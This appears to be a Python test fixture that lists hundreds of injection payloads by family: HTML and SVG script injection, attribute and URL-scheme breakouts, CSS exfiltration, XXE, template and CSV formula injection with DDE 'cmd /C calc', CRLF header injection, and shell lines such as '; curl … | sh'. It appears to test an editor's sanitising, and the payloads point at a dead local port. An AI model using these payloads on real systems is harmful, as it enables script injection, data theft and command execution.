"""Texts that mean harm, by family. As data from an editor each of them is nothing but text.

What stands for what: FUNC calls the one function that pages of the tests listen for, ADDR is an
address at which nobody listens (any request to it is seen), HEX is the call in other letters.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Final

# A port of this machine at which nothing answers.
ADDRESS: Final = "//127.0.0.1:47113"
FUNCTION: Final = "pwn"

_HTML = r"""
<script>FUNC</script>
<script src="http:ADDR"></script>
</script><script>FUNC</script>
<ScRiPt>FUNC</ScRiPt>
<script/x>FUNC</script>
<script >FUNC</script	>
<scr<script>ipt>FUNC</scr</script>ipt>
<<script>FUNC//<</script>
<img src=x onerror=FUNC>
<img src="http:ADDR">
<img/src/onerror=FUNC>
<img src=x:x onerror="FUNC">
<image src=x onerror=FUNC>
<body onload=FUNC>
<iframe src="javascript:FUNC"></iframe>
<iframe srcdoc="&lt;script&gt;parent.FUNC&lt;/script&gt;"></iframe>
<object data="http:ADDR"></object>
<embed src="http:ADDR">
<base href="http:ADDR/">
<meta http-equiv="refresh" content="0; url=http:ADDR">
<meta http-equiv="Content-Security-Policy" content="default-src *">
<link rel="stylesheet" href="http:ADDR">
<link rel="preconnect" href="http:ADDR">
<form action="http:ADDR"><button autofocus>send</button></form>
<details open ontoggle=FUNC>
<video><source onerror=FUNC></video>
<audio src=x onerror=FUNC></audio>
<input autofocus onfocus=FUNC>
<marquee onstart=FUNC>moves</marquee>
<template><script>FUNC</script></template>
<noscript><p title="</noscript><img src=x onerror=FUNC>">
<textarea></textarea><script>FUNC</script>
</textarea><script>FUNC</script>
</title><script>FUNC</script>
</style><script>FUNC</script>
<!--><script>FUNC</script>-->
--><script>FUNC</script><!--
<!--[if gte IE 4]><script>FUNC</script><![endif]-->
<plaintext><script>FUNC</script>
&lt;script&gt;FUNC&lt;/script&gt;
&#60;script&#62;FUNC&#60;/script&#62;
&amp;lt;img src=x onerror=FUNC&amp;gt;
＜script＞FUNC＜/script＞
<math><mtext></form><form><mglyph><style></math><img src onerror=FUNC>
<table><td background="http:ADDR">
<isindex type=image src=1 onerror=FUNC>
<a id=defaultView name=forms><a id=cookie>clobbers FUNC
<slot><p is=x-pwn>FUNC</slot>
"""
_ATTRIBUTE = r"""
" onmouseover="FUNC
' onmouseover='FUNC
" autofocus onfocus=FUNC x="
' autofocus onfocus=FUNC x='
"><script>FUNC</script>
'><script>FUNC</script>
"/><img src=x onerror=FUNC>
'/><img src=x onerror=FUNC>
` onmouseover=`FUNC
``onmouseover=FUNC
" style="background:url(http:ADDR)
" src="http:ADDR" x="
" srcset="http:ADDR 1x
" href="javascript:FUNC
" formaction="javascript:FUNC
" data-explorer="http:ADDR
" integrity="" crossorigin src="http:ADDR
" onanimationstart=FUNC style="animation:x 1s
x" accesskey="x" onclick="FUNC
x' accesskey='x' onclick='FUNC
&quot; onmouseover=&quot;FUNC
&#34; onmouseover=&#34;FUNC
&#x22;&gt;&#x3C;script&gt;FUNC
" lang="en" dir="rtl" onpointerenter="FUNC
" data-search-page="" x="FUNC
=FUNC " = ' onfocus=FUNC tabindex=1
" ping="http:ADDR
" target="_top" href="http:ADDR
" class="menu" popover onbeforetoggle="FUNC
{{ "x" }}" onmouseover="FUNC
"""
_URL = r"""
javascript:FUNC
JaVaScRiPt:FUNC
 javascript:FUNC
java	script:FUNC
javascript&colon;FUNC
javascript&#58;FUNC
&#106;avascript:FUNC
javascript://example.org/%0aFUNC
javascript:/*--></title></style></script><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+FUNC//'>
vbscript:FUNC
data:text/html,<script>FUNC</script>
data:text/html;base64,PHNjcmlwdD5GVU5DPC9zY3JpcHQ+#FUNC
data:image/svg+xml,<svg onload=FUNC>
blob:http:ADDR
file:///etc/passwd#FUNC
view-source:http:ADDR
ADDR
\\127.0.0.1:47113\FUNC
/\127.0.0.1:47113/FUNC
https:ADDR
http:ADDR/?q="><script>FUNC</script>
https://user:pass@127.0.0.1:47113/FUNC
../../../../etc/passwd#FUNC
..%2f..%2f..%2fetc%2fpasswd#FUNC
%0d%0aLocation:%20http:ADDR
%22%3E%3Cscript%3EFUNC%3C/script%3E
?q=<script>FUNC</script>
#<img src=x onerror=FUNC>
mailto:a@b.example?bcc=c@d.example&body=FUNC
portal:projects/"><script>FUNC</script>
portal:javascript:FUNC
tel:+1;FUNC
"""
_CSS = r"""
</style><style>*{background:url(http:ADDR)}
;background:url(http:ADDR);
x;background:url("http:ADDR")
expression(FUNC)
x:expression(FUNC)
@import url(http:ADDR);
@import "http:ADDR";
}*{background:url(http:ADDR)}/*
*/}*{background:url(http:ADDR)}
{}*{color:red}/*FUNC
behavior:url(http:ADDR)
-moz-binding:url(http:ADDR#x)
\3c script\3e FUNC
url(javascript:FUNC)
url(http:ADDR)
image-set("http:ADDR" 1x)
image(http:ADDR)
src("http:ADDR")
@font-face{font-family:x;src:url(http:ADDR)}
@namespace "http:ADDR";
@charset "utf-7";+ADw-script+AD4-FUNC
<style>*{background:url(http:ADDR)}</style>
<style>@import "http:ADDR";</style>
<p style="position:fixed;inset:0;background:url(http:ADDR)">
<div style=background:url(http:ADDR)>
var(--x,url(http:ADDR))
attr(FUNC url)
:has(*){background:url(http:ADDR)}
input[value^="a"]{background:url(http:ADDR)}
@media all{*{cursor:url(http:ADDR),auto}}
"""
_SVG = r"""
<svg onload=FUNC>
<svg/onload=FUNC>
<svg><script>FUNC</script></svg>
<svg><script href="http:ADDR"/></svg>
<svg><script xlink:href="data:,FUNC"/></svg>
<svg><style><img src=x onerror=FUNC></style></svg>
<svg><foreignObject><iframe src="javascript:FUNC"></iframe></foreignObject></svg>
<svg><a xlink:href="javascript:FUNC"><text y="9">x</text></a></svg>
<svg><a><animate attributeName=href values="javascript:FUNC"/><text y=9>x</text></a></svg>
<svg><animate onbegin=FUNC attributeName=x dur=1s>
<svg><set onbegin=FUNC attributeName=x>
<svg><use href="http:ADDR#x"/></svg>
<svg><use href="data:image/svg+xml,<svg id='x' onload='FUNC'/>#x"/></svg>
<svg><image href="http:ADDR"/></svg>
<svg><feImage href="http:ADDR"/></svg>
</text></svg><svg onload=FUNC>
</title><script>FUNC</script><title>
</desc><script>FUNC</script><desc>
"/><script>FUNC</script><rect x="
]]><script>FUNC</script>
<![CDATA[<script>FUNC</script>]]>
<svg><![CDATA[><img src=x onerror=FUNC>]]></svg>
<svg><desc><p></desc><img src=x onerror=FUNC></svg>
<svg><title><style></title><img src=x onerror=FUNC></svg>
<svg><textPath href="http:ADDR">x</textPath></svg>
<svg><handler type="text/javascript">FUNC</handler></svg>
<svg xmlns:x="http://www.w3.org/1999/xhtml"><x:script>FUNC</x:script></svg>
<svg><mask id=m><use href=#m></mask><rect mask=url(http:ADDR) /></svg>
<svg fill="url(http:ADDR)"/>
<?xml-stylesheet href="http:ADDR"?><svg/>FUNC
"""
_MARKDOWN = r"""
[x](javascript:FUNC)
[x](JaVaScRiPt:FUNC)
[x](<javascript:FUNC>)
[x](javascript&colon;FUNC)
[x](&#106;avascript:FUNC)
[x](data:text/html,<script>FUNC</script>)
[x](vbscript:FUNC)
[x](http:ADDR "title" onmouseover=FUNC)
[x](http:ADDR" onmouseover="FUNC)
[x](https://a.example/?FUNC"onmouseover="x)
[x](portal:projects/x"onmouseover="FUNC)
[x](portal:../../../FUNC)
[x](portal:javascript:FUNC)
![x](http:ADDR)
![x](javascript:FUNC)
![x" onerror="FUNC](x)
![x](x" onerror="FUNC)
![x](x "t\" onerror=\"FUNC")
<javascript:FUNC>
<http:ADDR"onmouseover=FUNC>
[x]: javascript:FUNC "[x]"
[x][y] FUNC [y]: <data:text/html,x>
`<script>FUNC</script>`
``` "><script>FUNC</script>
~~~ "onmouseover="FUNC
| a | "><script>FUNC</script> |
> <script>FUNC</script>
# <img src=x onerror=FUNC>
* <svg onload=FUNC>
**<b onmouseover=FUNC>bold</b>**
<b><script>FUNC</script></b>
<a href="javascript:FUNC">x</a>
<a href=javascript&Tab;:FUNC>x</a>
<a href="http:ADDR" onclick="FUNC">x</a>
<p style="background:url(http:ADDR)" class="menu" id="content">x</p>
~~<del cite="http:ADDR">x</del>~~ <q cite="javascript:FUNC">x</q>
<abbr title="&quot;><script>FUNC</script>">x</abbr>
<abbr title='"><img src=x onerror=FUNC>'>x</abbr>
<ol start="1" onclick=FUNC type="x"><li value="FUNC">x</ol>
<td align="left onclick=FUNC">x
<h1 class=x>FUNC</h1></article></main><h6>
</div></div></div></section></main><p>FUNC
www.a.example/"onmouseover="FUNC
a@b.example"onmouseover="FUNC
\<script>FUNC\</script>
[^1]: <script>FUNC</script>
"""
_JSON_LD = r"""
</script><script>FUNC</script>
</SCRIPT ><script>FUNC</script>
<!--<script>FUNC
"}</script><script>FUNC</script>
"},{"@id":"http:ADDR","x":"
"],"url":"http:ADDR","x":["
\"},"x":"FUNC
\u003c/script\u003e\u003cscript\u003eFUNC
\u0022,\u0022url\u0022:\u0022http:ADDR
{"@context":"http:ADDR"}
{"@type":"Person","name":"FUNC"}
"@graph":[{"@id":"javascript:FUNC"}]
{"__proto__":{"x":"FUNC"}}
__proto__ FUNC
constructor FUNC
\\"-FUNC-"
';FUNC;//
";FUNC;//
`;FUNC;//
${FUNC}
{{FUNC}}
{{constructor.constructor("FUNC")()}}
{% raw %}FUNC{% endraw %}
{{ ''.__class__.__mro__ }} FUNC
<%= FUNC %>
#{FUNC}
%(FUNC)s %s %d %n {0} {x.__init__}
%(programme)s %(municipality)s %(num)s %(date)s FUNC
$& $' $` $1 $<x> FUNC
*/FUNC/*
"""
_XML = r"""
]]>FUNC
<![CDATA[FUNC]]>
]]]]><![CDATA[><script>FUNC</script>
<?xml version="1.0"?><x>FUNC</x>
<!DOCTYPE x [<!ENTITY y SYSTEM "http:ADDR">]>&y;
<!ENTITY % x SYSTEM "http:ADDR">%x;
&y; FUNC
&xxe; &amp;xxe; FUNC
&#0; &#x1; FUNC
<?php FUNC ?>
<?xml-stylesheet type="text/xsl" href="http:ADDR"?>
<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="http:ADDR"/>
<xsl:value-of select="FUNC"/>
</title></item></channel></rss><x>FUNC</x>
</title></entry></feed><x>FUNC</x>
</description><link>http:ADDR</link><description>
<content:encoded><![CDATA[<script>FUNC</script>]]></content:encoded>
<enclosure url="http:ADDR" length="1" type="audio/mpeg"/>
<entry><title>FUNC</title></entry>
<link rel="self" href="http:ADDR"/>
</target><target>FUNC</target>
</note></notes></unit><unit id="x">FUNC
<ph id="1" equiv="FUNC"/>
"/><outline text="x" xmlUrl="http:ADDR"/><outline x="
</loc><loc>http:ADDR</loc>
</url><url><loc>http:ADDR</loc></url>
</html></oembed><html>FUNC</html>
--> <!-- FUNC --
<x xmlns="http:ADDR">FUNC</x>
<x:y xml:base="http:ADDR">FUNC</x:y>
"""
_CSV = r"""
=FUNC
=1+1+FUNC
+1+FUNC
-1+FUNC
@SUM(1+1)*FUNC
=cmd|'/C calc'!A0 FUNC
+cmd|'/C calc'!A0 FUNC
-2+3+cmd|'/C calc'!A0 FUNC
@cmd|'/C calc'!A0 FUNC
=HYPERLINK("http:ADDR","x")
=IMPORTXML("http:ADDR","//a")
=WEBSERVICE("http:ADDR")
=DDE("cmd";"/C calc";"FUNC")
=IMAGE("http:ADDR")
"=1+1" FUNC
'=1+1 FUNC
''=1+1 FUNC
＝1+1+FUNC
＋1+FUNC
－1+FUNC
＠SUM(FUNC)
x;=1+1+FUNC
x;=HYPERLINK("http:ADDR");y
x; =1+1+FUNC
x;@SUM(FUNC);y
x;+1+FUNC
x;-1+cmd|'/C calc'!A0;FUNC
x,=1+1,FUNC
x",=1+1,"FUNC
x";=1+1;"FUNC
x|=1+1|FUNC
"",=1+1,"" FUNC
sep=; FUNC
%0A=1+1+FUNC
x;'=1+1+FUNC
x;;=1+1+FUNC
"""
_ICS = r"""
x\nBEGIN:VEVENT\nSUMMARY:FUNC
x\r\nEND:VEVENT\r\nFUNC
END:VCALENDAR FUNC
BEGIN:VALARM FUNC END:VALARM
x;ATTACH=http:ADDR
x:ATTACH:http:ADDR
X-ALT-DESC;FMTTYPE=text/html:<script>FUNC</script>
ATTENDEE;CN="FUNC":mailto:a@b.example
ORGANIZER:MAILTO:a@b.example FUNC
URL:javascript:FUNC
x\;y\,z\\n FUNC
x;y,z:FUNC
x,y;"z":FUNC
\nURL:http:ADDR
\N\N\NATTACH:http:ADDR
^n^'^^ FUNC
%0D%0AATTENDEE:FUNC
x\\nBEGIN:VTODO FUNC
x\\\nEND:VEVENT FUNC
RRULE:FREQ=SECONDLY FUNC
DTSTART:19700101T000000Z FUNC
METHOD:REQUEST FUNC
ACTION:PROCEDURE FUNC
;VALUE=URI:http:ADDR
"x":;,FUNC
x FUNC абвгдежзийклмнопрстуфхцчшщъьюяабвгдежзийклмнопрстуфхцчшщъьюя 🚌🚌🚌🚌🚌🚌🚌🚌🚌🚌🚌🚌
GEO:0;0 FUNC
CATEGORIES:a,b,FUNC
TZID=http:ADDR
X-WR-CALNAME:FUNC
"""
_HEADER = r"""
x\r\nSet-Cookie: a=FUNC
x%0d%0aSet-Cookie:a=FUNC
x%0d%0a%0d%0a<script>FUNC</script>
x\r\n\r\n<script>FUNC</script>
x%E5%98%8A%E5%98%8DSet-Cookie:FUNC
Content-Security-Policy: default-src * FUNC
Access-Control-Allow-Credentials: true FUNC
Link: <http:ADDR>; rel=preload
Refresh: 0; url=http:ADDR
/* FUNC
/*  http:ADDR 301
/admin/* http:ADDR 200!
"; add_header X-Pwn "FUNC"; #
'; return 301 http:ADDR; #
} location / { return 301 http:ADDR; }
$request_uri $host ${FUNC}
Header set X-Pwn "FUNC"
RewriteRule .* http:ADDR
<FilesMatch .*>SetHandler FUNC
::set-output name=x::FUNC
::error file=x,line=1::FUNC
::add-mask::FUNC
%0A::warning::FUNC
@everyone @here FUNC
User-agent: * Disallow: / FUNC
Sitemap: http:ADDR
$(FUNC)
`FUNC`
; curl http:ADDR | sh #
| curl http:ADDR
&& curl http:ADDR &
filename="../../FUNC.html"
attachment; filename="x"; FUNC
=?utf-8?B?PHNjcmlwdD4=?= FUNC
Bcc: a@b.example FUNC
"""


@dataclass(frozen=True, slots=True)
class Payload:
    """One text that means harm; `id` is its family and its number."""

    id: str
    family: str
    text: str


# What an address may be, and still wants to leave its attribute.
ADDRESSES: Final = (
    "https://a.example/'onmouseover='pwn(1)",
    "https://a.example/?q=');pwn(2)//",
    "https://a.example/?a=1&b=2&lt;script&gt;pwn(3)",
    "https://a.example/%22%3E%3Cscript%3Epwn(4)%3C/script%3E",
    "https://a.example/#javascript:pwn(5)",
    "https://a.example/;url=javascript:pwn(6)",
    "https://a.example/%0d%0aSet-Cookie:pwn(7)",
    "https://a.example/$&$1$(pwn(8))",
    "https://a.example/[x](javascript:pwn(9))",
    "https://a.example/=1+1;=pwn(10)",
    "https://a.example/%(x)s%sAND%dpwn(11)",
    "https://a.example/*/pwn(12)/*",
    "mailto:'onmouseover=pwn(13)'@a.example",
    "mailto:a@a.example?subject='onmouseover='pwn(14)",
)


def _read(family: str, lines: str) -> list[Payload]:
    found = []
    for number, line in enumerate(lines.strip("\n").split("\n"), start=1):
        name = f"{family}-{number:02}"
        text = line.replace("ADDR", f"{ADDRESS}/{name}").replace("FUNC", f"{FUNCTION}('{name}')")
        found.append(Payload(name, family, text if name in text else f"{text} {name}"))
    return found


_FAMILIES: Final = {
    "html": _HTML, "attribute": _ATTRIBUTE, "url": _URL, "css": _CSS, "svg": _SVG,
    "markdown": _MARKDOWN, "jsonld": _JSON_LD, "xml": _XML, "csv": _CSV, "ics": _ICS,
    "header": _HEADER,
}  # fmt: skip
PAYLOADS: Final = tuple(p for family, lines in _FAMILIES.items() for p in _read(family, lines))
FAMILIES: Final = tuple(_FAMILIES)

# Characters that no text may hold: each is refused with its place. (name, character)
HIDDEN: Final = (
    ("null", "\0"), ("bell", "\a"), ("escape", "\x1b[31m"), ("vertical tab", "\v"),
    ("form feed", "\f"), ("next line", "\x85"), ("line separator", "\u2028"),
    ("paragraph separator", "\u2029"), ("override", "\u202e"), ("isolate", "\u2067"),
    ("byte order mark", "\ufeff"), ("no character", "\uffff"), ("delete", "\x7f"),
    ("string terminator", "\x9c"),
)  # fmt: skip
